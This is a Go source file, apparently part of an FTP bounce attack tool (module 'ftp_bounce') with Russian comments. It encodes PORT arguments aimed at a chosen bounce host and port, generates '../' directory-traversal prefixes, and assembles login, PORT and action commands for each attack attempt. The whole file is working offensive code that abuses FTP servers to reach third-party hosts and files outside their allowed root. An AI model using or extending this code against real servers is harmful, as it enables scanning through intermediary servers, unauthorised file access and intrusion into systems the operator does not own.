package control

import (
	"fmt"
	"net"
	"strings"

	"github.com/pkg/errors"

	"ftp_bounce/models"
)

// PortArgument кодирует адрес для PORT: четыре октета и порт двумя байтами, старший первым
func PortArgument(host string, port int) (string, error) {
	ip := net.ParseIP(host).To4()
	if ip == nil {
		return "", errors.Errorf("bounce host %q is not an IPv4 address", host)
	}
	if port < 0 || port > 65535 {
		return "", errors.Errorf("invalid bounce port %d", port)
	}
	return fmt.Sprintf("%d,%d,%d,%d,%d,%d", ip[0], ip[1], ip[2], ip[3], port>>8, port&0xff), nil
}

// TraversalPrefix возвращает depth сегментов "..", например "../../.." для 3
func TraversalPrefix(depth int) string {
	if depth <= 0 {
		return ""
	}
	return strings.TrimSuffix(strings.Repeat("../", depth), "/")
}

// Request параметры одной попытки
type Request struct {
	Action         models.Action
	Target         models.Target
	User           string
	Password       string
	TraversalDepth int
	Path           string
}

// Build собирает вход, PORT и команду действия для одного пути
func Build(r Request) ([]string, error) {
	port, err := PortArgument(r.Target.LocalHost, r.Target.BouncePort)
	if err != nil {
		return nil, err
	}
	path := r.Path
	if r.TraversalDepth > 0 && !strings.HasPrefix(path, "/") {
		path = "/" + path
	}
	return []string{
		"USER " + r.User,
		"PASS " + r.Password,
		"PORT " + port,
		r.Action.Verb() + " " + TraversalPrefix(r.TraversalDepth) + path,
	}, nil
}
